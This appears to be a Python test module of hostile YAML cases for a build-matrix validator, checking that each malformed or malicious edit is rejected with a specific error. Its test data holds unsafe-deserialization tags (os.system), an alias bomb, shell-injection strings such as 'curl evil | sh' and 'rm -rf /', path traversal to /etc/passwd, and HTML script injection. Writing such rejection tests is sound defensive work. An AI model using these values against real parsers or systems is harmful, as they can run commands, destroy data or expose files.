"""Hostile matrices: what a reader of untrusted YAML must survive, and every value the
matrix's rules refuse. Each case is the shipped matrix with one edit (or a file that is not
a matrix at all) given to ``plan --matrix m.yaml``; the case folder also holds the source
folder and smoke script the shipped matrix names, so only the edit is wrong.

Exit codes: 3 invalid matrix, 4 dropped item asked for, 19 a path that is not a file.
Lines are computed from the edited text, never written down.
"""

from __future__ import annotations

import re
from pathlib import Path

import yaml

from tests.hostile.corpus import Case, matrix_case

ROOT = Path(__file__).resolve().parent.parent.parent
BASE = (ROOT / "matrix.yaml").read_text(encoding="utf-8")
DATA = yaml.safe_load(BASE)
MIB = 2**20
MAX_VALUES = 20_000  # the documented cap on values a document may expand to


def tree(folder: Path) -> None:
    """The source folder and smoke script the shipped matrix names, inside the case folder."""
    project = DATA["project"]
    (folder / project["source"]).mkdir(parents=True, exist_ok=True)
    script = project.get("smoke", {}).get("script")
    if script:
        (folder / script).parent.mkdir(parents=True, exist_ok=True)
        (folder / script).write_text("")


def line_of(text: str, needle: str) -> int:
    return next(i + 1 for i, line in enumerate(text.splitlines()) if needle in line)


def case(case_id: str, text: str | bytes, message: str, *, at: str | int | None = None, exit_code: int = 3,
         command: str = "plan") -> Case:
    """``text`` as ``m.yaml``, given to ``command``; ``at`` is the line (or a text on it) the error must point to
    ("": no line)."""
    line = (line_of(text, at) if at else None) if isinstance(at, str) and isinstance(text, str) else at
    made = matrix_case(f"matrix-{case_id}", text, exit_code=exit_code, message=message,
                       line=line if isinstance(line, int) else None, command=command)
    return Case(id=made.id, argv=made.argv, files={**made.files, "tree": tree}, exit_code=made.exit_code,
                message=made.message, location=made.location)


def edit(old: str, new: str, *, after: str = "") -> str:
    """The shipped text with the first ``old`` (following ``after``) replaced by ``new``."""
    head, sep, tail = BASE.partition(after) if after else ("", "", BASE)
    assert old in tail, (after, old)
    return head + sep + tail.replace(old, new, 1)


def edited(case_id: str, old: str, new: str, message: str, *, at: str | None = None, after: str = "",
           exit_code: int = 3, command: str = "plan") -> Case:
    """A one-edit case; the error points at ``at`` (default: the first line of ``new``)."""
    text = edit(old, new, after=after)
    needle = at if at is not None else new.strip().splitlines()[0].strip()
    return case(case_id, text, message, at=needle, exit_code=exit_code, command=command)


def bomb_line(levels: int = 9, width: int = 9) -> tuple[str, int]:
    """A billion-laughs document, and the line where its expansion first passes the cap.

    Values are counted in document order: a key, a scalar and a finished collection are one
    value each; an alias adds the size of what it names.
    """
    names = "abcdefghijklmnopqrstuvwxyz"
    lines = [f"a: &a [{', '.join(['lol'] * width)}]"] + [
        f"{names[i + 1]}: &{names[i + 1]} [{', '.join([f'*{names[i]}'] * width)}]" for i in range(levels - 1)]
    total, size = 0, 0
    for number, _ in enumerate(lines, start=1):
        total += 1  # the key
        previous = size
        size = 1 + width * (1 if number == 1 else previous)
        if total + size - 1 > MAX_VALUES:
            return "\n".join(lines) + "\n", number
        total += size
    raise AssertionError("the bomb is too small")


def python_list(*extra: str, first: bool = True) -> str:
    """The ``pythons:`` list with ``extra`` entries put before (or after) the first one."""
    one = f'  - "{DATA["pythons"][0]}"\n'
    added = "".join(f"  - {e}\n" for e in extra)
    return edit(one, added + one if first else one + added)


def labels() -> list[tuple[str, str]]:
    """(family, label) of every variant, in file order."""
    out = []
    for family, raw in DATA["accelerators"].items():
        out += [(family, v["label"]) for v in raw["versions"].values()] if "versions" in raw else [(family, raw["label"])]
    return out


def excluded_default() -> tuple[str, str, str] | None:
    """(platform, its PyPI default, a label every target of which is excluded there)."""
    import fnmatch

    globs = [e["targets"] for e in DATA.get("exclude", [])]
    for platform, current in DATA["channels"]["pypi"].items():
        for _, label in labels():
            ids = [f"{label}-cp{p.replace('.', '')}-{platform}" for p in DATA["pythons"]]
            if all(any(fnmatch.fnmatchcase(i, g) for g in globs) for i in ids):
                return platform, current, label
    return None


BOMB, BOMB_LINE = bomb_line()
GPU_LABEL = next(label for family, label in labels() if family == "cuda")
RUNTIME_DIR = DATA["accelerators"]["cuda"]["runtime_dirs"][0]
# The older spelling, an $ORIGIN string, in the runtime folder's place
RUNTIME_LINE = f"runtime_dirs: [{RUNTIME_DIR}]"
BASE_URL = DATA["channels"]["index"]["base_url"]
LAYOUT = DATA["channels"]["index"]["layout"]
SOURCE = DATA["project"]["source"]
DROPPED = [d["python"] for d in DATA.get("dropped", []) if "python" in d]
PYPI = "\n  pypi:\n"
FIRST_PLATFORM, FIRST_DEFAULT = next(iter(DATA["channels"]["pypi"].items()))


def key_line(key: str, old_value: str, new_value: str, message: str, case_id: str, **kwargs) -> Case:
    """``key: old`` becomes ``key: new`` (first occurrence)."""
    return edited(case_id, f"{key}: {old_value}", f"{key}: {new_value}", message, **kwargs)


READER = [
    # size, encoding, bytes that are not text
    case("over-one-mib", "#" * (MIB + 1), "larger than 1 MiB", at=1),
    case("two-mib-of-keys", "".join(f"key{i}: {i}\n" for i in range(200_000)), "larger than 1 MiB", at=1),
    Case(id="matrix-dev-zero", argv=("plan", "--matrix", "/dev/zero"), exit_code=19, message="not a regular file"),
    case("utf16-bom", BASE.encode("utf-16"), "UTF-16", at=1),
    case("utf16-no-bom", BASE.encode("utf-16-le"), "NUL byte", at=1),
    case("utf32-bom", BASE.encode("utf-32"), "UTF-32", at=1),
    case("utf8-bom", b"\xef\xbb\xbf" + BASE.encode(), "byte-order mark", at=1),
    case("nul-byte", edit("  import_name: ", "  import_name: a\x00").encode(), "NUL byte",
         at=line_of(BASE, "  import_name: ")),
    case("latin1-byte", edit("  import_name: ", "  import_name: caf\udce9").encode("utf-8", "surrogateescape"),
         "not UTF-8", at=line_of(BASE, "  import_name: ")),
    case("elf-binary", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4, "NUL byte", at=1),
    case("random-binary", bytes(range(128, 256)) * 8, "not UTF-8", at=1),
    case("png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "not UTF-8", at=1),
    case("empty", "", "the file is empty", at=1),
    case("only-comments", "# nothing\n\n# here\n", "the file is empty", at=1),
    case("control-char", edit("  import_name: ", "  import_name: a\x07"), "U+0007", at="  import_name: "),
    case("bom-inside", edit("  import_name: ", "  import_name: a\ufeff"), "U+FEFF", at="  import_name: "),
    case("c1-control", edit("  import_name: ", "  import_name: a\x80"), "U+0080", at="  import_name: "),
    case("escape-sequence", edit("  import_name: ", "  import_name: \x1b[31m"), "U+001B", at="  import_name: "),
]

YAML = [
    # YAML that must not cost memory, recursion or a traceback
    case("alias-bomb", BOMB, "alias bomb", at=BOMB_LINE),
    case("alias-bomb-in-matrix", edit("  import_name: ", "  bomb:\n" + "".join("    " + ln + "\n" for ln in BOMB.splitlines())
                                      + "  import_name: "), "alias bomb",
         at=line_of(BASE, "  import_name: ") + BOMB_LINE),
    case("many-aliases", "a: &a x\nb: [" + ", ".join(["*a"] * 1001) + "]\n", "more than 1000 aliases", at=2),
    case("too-many-values", "".join(f"- {i}\n" for i in range(MAX_VALUES + 10)), "more than 20,000 values",
         at=MAX_VALUES + 1),
    case("deep-flow", "a: " + "[" * 50_000 + "]" * 50_000, "nest", at=1),
    case("deep-block", "a:\n" + "".join(" " * i + "b:\n" for i in range(1, 200)), "nested deeper than 32", at=33),
    case("deep-mixed", "a:\n" + "".join(" " * (2 * i) + "- b:\n" for i in range(1, 100)), "nested deeper than 32"),
    case("recursive-anchor", "a: &a [1, *a]\n", "names no anchor", at=1),
    case("undefined-alias", edit("  import_name: ", "  import_name: *nowhere\n  x_import_name: "), "names no anchor",
         at="*nowhere"),
    case("merge-key", edit("  import_name: ", "  <<: {import_name: x}\n  x_import_name: "), "merge keys", at="<<:"),
    case("two-documents", BASE + "---\nschema_version: 1\n", "one YAML document", at=BASE.count("\n") + 1),
    edited("duplicate-key", "    runner: windows-2025\n", "    runner: windows-2025\n    runner: windows-2022\n",
           "duplicate key 'runner'", at="windows-2022"),
    edited("mapping-as-key", "  import_name: ", "  ? [a, b]\n  : c\n  import_name: ", "keys must be plain scalars",
           at="? [a, b]"),
    edited("unclosed-flow", "pythons:\n", "pythons: [\n", "not valid YAML", at=""),
    edited("tab-indent", "  import_name: ", "\timport_name: ", "not valid YAML", at="\timport_name"),
    edited("bad-indent", "  import_name: ", "   import_name: ", "not valid YAML", at="   import_name"),
    case("unterminated-quote", BASE + 'x: "never closed\n', "not valid YAML", at=""),
    edited("huge-int", "cxx_standard: 20", "cxx_standard: " + "9" * 5000, "out of range", at="cxx_standard"),
    edited("hex-int", "max_gcc: ", "max_gcc: 0x" + "f" * 30 + " #", "out of range", at="max_gcc"),
    edited("bad-int-tag", "cxx_standard: 20", "cxx_standard: !!int twenty", "not a valid int", at="cxx_standard"),
    edited("bad-bool-tag", "cxx_standard: 20", "cxx_standard: !!bool maybe", "not a valid bool", at="cxx_standard"),
    case("top-level-list", "- a\n- b\n", "must be an object, not a list", at=1),
    case("top-level-scalar", "just words\n", "must be an object, not a string", at=1),
]

TAGS = [
    edited(f"tag-{name}", "  import_name: ", f"  import_name: {tag} ", "is not allowed here", at=tag)
    for name, tag in [("python-object", "!!python/object:os.system"), ("python-name", "!!python/name:os.system"),
                      ("python-module", "!!python/module:os"), ("python-apply", "!!python/object/apply:os.system"),
                      ("python-str", "!!python/str"), ("binary", "!!binary"), ("timestamp", "!!timestamp"),
                      ("custom", "!custom"), ("verbatim", "!<tag:example.com,2000:x>")]
] + [
    edited("tag-on-mapping", "project:\n", "project: !!python/object:argparse.Namespace\n", "!!python/object"),
    edited("tag-on-sequence", "pythons:\n", "pythons: !!python/tuple\n", "!!python/tuple"),
    edited("tag-set", "  import_name: ", "  x_set: !!set {a, b}\n  import_name: ", "!!set"),
    edited("tag-omap", "  import_name: ", "  x_omap: !!omap [a: 1]\n  import_name: ", "!!omap"),
    edited("tag-seq-on-scalar", "  import_name: ", "  import_name: !!seq ", "!!seq", at="!!seq"),
    case("tag-directive", "%TAG !e! tag:example.com,2000:\n---\n" + BASE.replace("  import_name: ", "  import_name: !e!x ", 1),
         "tag:example.com,2000:x is not allowed", at=line_of(BASE, "  import_name: ") + 2),
]

VALUES = [
    # schema
    edited("misspelt-key", "  import_name:", "  import_nam:", "did you mean 'import_name'"),
    edited("schema-version", "schema_version: 1", "schema_version: 2", "1 was expected"),
    case("all-at-once", edit("  import_name:", "  import_nam:").replace("  version: ", "  version: two\n  x_version: ", 1)
         .replace(f"{PYPI}    {FIRST_PLATFORM}: {FIRST_DEFAULT}\n", f"{PYPI}    {FIRST_PLATFORM}: nolabel\n", 1),
         "unknown variant label 'nolabel'", at="import_nam"),
    case("error-cap", "".join(f"key{i}: {i}\n" for i in range(5000)), "and 4956 more problems", at=1),
    edited("null-project", "project:\n", "project: ~\nx_project:\n", "must be an object, not null"),
    edited("pythons-string", "pythons:\n", "pythons: '3.12'\nx_pythons:\n", "must be an array, not a string"),
    # pythons
    case("python-31-unquoted", python_list("3.1"), 'write "3.10"', at="- 3.1"),
    case("python-39", python_list('"3.9"'), "not admitted by requires_python", at='- "3.9"'),
    case("python-311t", python_list('"3.11t"'), "free-threaded CPython exists from 3.13", at='- "3.11t"'),
    case("python-4", python_list('"4.0"'), "does not match", at='- "4.0"'),
    case("python-leading-zero", python_list('"3.011"'), "does not match", at='- "3.011"'),
    case("python-thousand", edit(f'  - "{DATA["pythons"][0]}"\n', "".join(f'  - "3.{i % 90 + 10}"\n' for i in range(1000))),
         "more than the 32 allowed", at="pythons:"),
    case("python-twice", python_list(f'"{DATA["pythons"][0]}"'), "more than once", at="pythons:"),
    *[case(f"python-dropped-{p}", python_list(f'"{p}"'), "dropped in", at=f'- "{p}"', exit_code=4) for p in DROPPED],
    case("python-310-unquoted", python_list("3.10"), "Python 3.10", at="- 3.10", exit_code=4),
    # labels
    *[key_line("label", GPU_LABEL, f"'{bad}'", "does not match", f"label-{name}", at=f"label: '{bad}'")
      for name, bad in [("trailing-dot", GPU_LABEL + "."), ("double-dot", "cu..134"), ("upper", "CU134"),
                        ("dash", "cu-134"), ("slash", "../x"), ("empty", ""), ("space", "cu 134")]],
    # platforms
    edited("wheel-platform-unknown", "wheel_platform: manylinux_2_28_x86_64", "wheel_platform: linux_x86_64",
           "not a Linux platform tag"),
    edited("wheel-platform-arch", "wheel_platform: manylinux_2_28_x86_64", "wheel_platform: manylinux_2_28_aarch64",
           "does not match arch"),
    edited("wheel-platform-legacy", "wheel_platform: manylinux_2_28_x86_64", "wheel_platform: manylinux2014_x86_64",
           "legacy alias"),
    edited("wheel-platform-glibc", "wheel_platform: manylinux_2_28_x86_64", "wheel_platform: manylinux_9_28_x86_64",
           "no real C library"),
    edited("wheel-platform-win32", "wheel_platform: win_amd64", "wheel_platform: win32", "does not match arch"),
    edited("wheel-platform-macos", "wheel_platform: macosx_14_0_arm64", "wheel_platform: macosx_13_0_arm64",
           "deployment_target"),
    edited("platform-name", "  linux-aarch64:\n    os: linux", "  linux-arm64:\n    os: linux",
           "does not match its os and arch", at="  linux-arm64:"),
    edited("platform-arch-spelling", "arch: aarch64", "arch: arm64", "not how linux names a CPU"),
    edited("platform-os", "os: linux", "os: beos", "is not one of"),
    edited("deployment-target-on-linux", "    runner: ubuntu-24.04\n", "    runner: ubuntu-24.04\n    deployment_target: '14.0'\n",
           "applies to macOS", at="deployment_target: '14.0'"),
    edited("runner-shell", "runner: ubuntu-24.04\n", "runner: 'ubuntu; curl evil | sh'\n", "does not match"),
    edited("base-image-spaces", "base_image: quay.io", "base_image: 'quay.io --privileged' #", "does not match",
           at="base_image:"),
    # project
    edited("name-spaces", "  name: ", "  name: 'my project!'\n  x_name: ", "does not match"),
    edited("import-name", "  import_name: ", "  import_name: 1abc\n  x_import_name: ", "does not match"),
    edited("release-date", "  released: ", "  released: 2026-13-45\n  x_released: ", "is not a date"),
    edited("release-date-short", "  released: ", "  released: 26-1-1\n  x_released: ", "is not a date"),
    edited("version-words", "  version: ", "  version: two\n  x_version: ", "not a PEP 440 version"),
    edited("version-local", "  version: ", "  version: 2.15.0+cu132\n  x_version: ", "has a local label"),
    # the source tree and the smoke script are checked where they are used: build (and smoke)
    key_line("source", SOURCE, "does-not-exist", "does not exist", "source-missing", command="build"),
    key_line("source", SOURCE, "../..", "leads outside", "source-escapes", command="build"),
    key_line("source", SOURCE, "/etc", "is absolute", "source-absolute", command="build"),
    key_line("source", SOURCE, "m.yaml", "is not a folder", "source-is-a-file", command="build"),
    edited("requires-python-above-310", 'requires_python: ">=3.11"', 'requires_python: ">3.10"', "admits Python 3.10",
           exit_code=4),
    edited("requires-python-garbage", 'requires_python: ">=3.11"', 'requires_python: "three"',
           "not a PEP 440 version specifier"),
    edited("requires-python-excludes-listed", 'requires_python: ">=3.11"', 'requires_python: ">=3.11,<3.12"',
           "not admitted by requires_python", at=f'- "{DATA["pythons"][1]}"'),
    edited("cxx-17", "cxx_standard: 20", "cxx_standard: 17", "C++17", exit_code=4),
    edited("budget-zero", "wheel_size_budget_mb: ", "wheel_size_budget_mb: 0\n  x_budget: ", "above 0"),
    edited("budget-zero-float", "wheel_size_budget_mb: ", "wheel_size_budget_mb: 0.0\n  x_budget: ", "above 0"),
    edited("budget-negative", "wheel_size_budget_mb: ", "wheel_size_budget_mb: -64\n  x_budget: ", "above 0"),
    edited("budget-infinite", "wheel_size_budget_mb: ", "wheel_size_budget_mb: .inf\n  x_budget: ",
           "does not match any allowed form"),
    # Only a known {name} is filled (builders.base.placeholders): "{0}", "{python.__class__}", "{source" and
    # "{python:>99999}" stay as written (str.format's index, attribute and format-spec traps are gone); a
    # lower-case name that is not one is refused as a likely typo, wherever a placeholder is filled.
    edited("build-command-unknown", '"{outdir}",', '"{outdir}", "{pyhton}",', "unknown placeholder {pyhton}", at="pyhton"),
    edited("build-core-unknown", '"-B", "{builddir}",', '"-B", "{bilddir}",', "unknown placeholder", at="bilddir"),
    edited("build-env-name", "accelerator: MINIFW_ACCELERATOR", "accelerator: 'A=B; rm'", "does not match",
           at="accelerator: 'A=B"),
    # accelerators
    edited("arch-list-garbage", '"7.5;', '"garbage;7.5;', "not a cuda architecture"),
    edited("arch-list-empty-entry", '"7.5;', '"7.5;;', "not a cuda architecture"),
    edited("arch-list-twice", '"7.5;', '"7.5;7.5;', "twice"),
    edited("arch-list-rocm", '"gfx908;', '"8.0;gfx908;', "not a rocm architecture"),
    edited("arch-list-unknown-platform", "          linux-aarch64: \"", "          linux-arm64: \"", "unknown platform"),
    edited("rpath-colon", RUNTIME_LINE, 'rpath: ["$ORIGIN/..:/usr/local/cuda/lib64"]', "several paths", at="/usr/local/cuda"),
    edited("rpath-originally", RUNTIME_LINE, 'rpath: ["$ORIGINAL/lib"]', "not relative to $ORIGIN", at="$ORIGINAL"),
    edited("rpath-absolute", RUNTIME_LINE, 'rpath: ["/usr/local/cuda/lib64"]', "not relative to $ORIGIN",
           at="/usr/local/cuda"),
    edited("rpath-climbs", RUNTIME_LINE, 'rpath: ["$ORIGIN/../.."]', "climbs out of site-packages",
           at='["$ORIGIN/../.."]'),
    edited("rpath-climbs-far", RUNTIME_LINE, 'rpath: ["$ORIGIN/../../../../../../etc"]', "climbs out", at="/etc"),
    edited("rpath-empty-segment", RUNTIME_LINE, 'rpath: ["$ORIGIN//lib"]', "empty", at="$ORIGIN//lib"),
    edited("runtime-dir-colon", RUNTIME_LINE, "runtime_dirs: [nvidia/cu13/lib:/usr/lib]", "not one relative path",
           at="/usr/lib"),
    edited("runtime-dir-absolute", RUNTIME_LINE, "runtime_dirs: [/usr/local/cuda/lib64]", "not one relative path",
           at="/usr/local/cuda"),
    edited("runtime-dir-origin", RUNTIME_LINE, 'runtime_dirs: ["$ORIGIN/../nvidia/cu13/lib"]', "not one relative path",
           at='["$ORIGIN/../nvidia'),
    edited("runtime-dir-leaves", RUNTIME_LINE, 'runtime_dirs: ["../../../../etc"]', "leaves the environment", at="etc"),
    edited("runtime-dir-empty-segment", RUNTIME_LINE, "runtime_dirs: [nvidia//lib]", "empty", at="nvidia//lib"),
    edited("provider-undeclared", "libcudart.so.13: cuda-toolkit[cudart]", "libcudart.so.13: nvidia-cuda-runtime",
           "not among the variant's runtime_requirements"),
    edited("requirement-invalid", "'cuda-toolkit[cudart]==", "'cuda-toolkit[cudart==", "not a valid requirement"),
    edited("toolkit-root-climbs", "root: nvidia/cu13", "root: ../../../etc", "climbs"),
    edited("system-package-shell", "system_packages: [", "system_packages: ['x; rm -rf /', ", "does not match"),
    edited("index-url-http", "index_url: ${THEROCK_INDEX_URL}", "index_url: http://evil.example/simple", "plain http"),
    edited("index-url-dollar", "index_url: ${THEROCK_INDEX_URL}", "index_url: '${THEROCK_INDEX_URL}$x'",
           "not a ${VAR} reference"),
    edited("system-repository-html", "system_repository: ${ONEAPI_REPOSITORY}",
           "system_repository: 'https://x.example/\"><b>'", "special in HTML"),
    edited("smoke-runner-platform", "      linux-aarch64: [self-hosted", "      linux-arm64: [self-hosted", "unknown platform"),
    edited("versions-key", '      "13.2":', '      "13":', "is not allowed here", at='"13":'),
    # channels and exclusions
    edited("pypi-unknown-label", f"    {FIRST_PLATFORM}: {FIRST_DEFAULT}\n", f"    {FIRST_PLATFORM}: cu999\n",
           "unknown variant label", after=PYPI),
    edited("pypi-unknown-platform", f"    {FIRST_PLATFORM}: {FIRST_DEFAULT}\n", f"    beos-x86_64: {FIRST_DEFAULT}\n",
           "unknown platform", after=PYPI),
    edited("base-url-http", f"base_url: {BASE_URL}", "base_url: http://download.example.org/", "plain http"),
    edited("base-url-html", f"base_url: {BASE_URL}", "base_url: 'https://x.example/\"><script>alert(1)</script>/'",
           "special in HTML"),
    edited("base-url-quote", f"base_url: {BASE_URL}", "base_url: \"https://x.example/'onmouseover='x/\"", "special in HTML"),
    edited("base-url-credentials", f"base_url: {BASE_URL}", "base_url: https://user:secret@x.example/", "credentials"),
    edited("base-url-javascript", f"base_url: {BASE_URL}", "base_url: 'javascript://x/'", "does not match"),
    edited("layout-climbs", f'layout: "{LAYOUT}"', 'layout: "../../{label}/"', "'..' segment"),
    edited("layout-absolute", f'layout: "{LAYOUT}"', 'layout: "/srv/{label}/"', "relative path"),
    edited("layout-unknown", f'layout: "{LAYOUT}"', 'layout: "whl/{lable}/"', "unknown placeholder {lable}"),
    edited("layout-index", f'layout: "{LAYOUT}"', 'layout: "whl/{0}/"', "unknown placeholder {0}"),
    edited("layout-no-label", f'layout: "{LAYOUT}"', 'layout: "whl/"', "has no {label}"),
    edited("exclusion-stale", 'targets: "cu*-*-macos-*"', 'targets: "cuda-*-macos-*"', "matches no target"),
    edited("exclusion-shell", 'targets: "cu*-*-macos-*"', "targets: 'cu*; rm -rf /'", "does not match"),
    edited("mps-macos-14", 'mps_min_macos: "15.0"', 'mps_min_macos: "14.0"', "MPS acceleration on macOS 14", exit_code=4),
]

SINGLES = [(family, raw["label"]) for family, raw in DATA["accelerators"].items() if "versions" not in raw]
if len(SINGLES) >= 2:
    (_, _first), (_second_family, _second) = SINGLES[:2]
    VALUES.append(edited("label-twice", f"  {_second_family}:\n    label: {_second}\n",
                         f"  {_second_family}:\n    label: {_first}\n", "is used twice", at=f"  {_second_family}:"))
SCRIPT = DATA["project"].get("smoke", {}).get("script")
if SCRIPT:
    VALUES += [key_line("script", SCRIPT, "../../etc/passwd", "leads outside", "smoke-script-escapes", command="build"),
               key_line("script", SCRIPT, "nope.py", "does not exist", "smoke-script-missing", command="build")]

_default = excluded_default()
if _default:
    _platform, _current, _label = _default
    VALUES.append(edited("pypi-default-excluded", f"    {_platform}: {_current}\n", f"    {_platform}: {_label}\n",
                         "is excluded", after=PYPI))

CASES: list[Case] = [*READER, *YAML, *TAGS, *VALUES]
assert len({c.id for c in CASES}) == len(CASES)
assert all(re.fullmatch(r"[a-z0-9.-]+", c.id) for c in CASES)
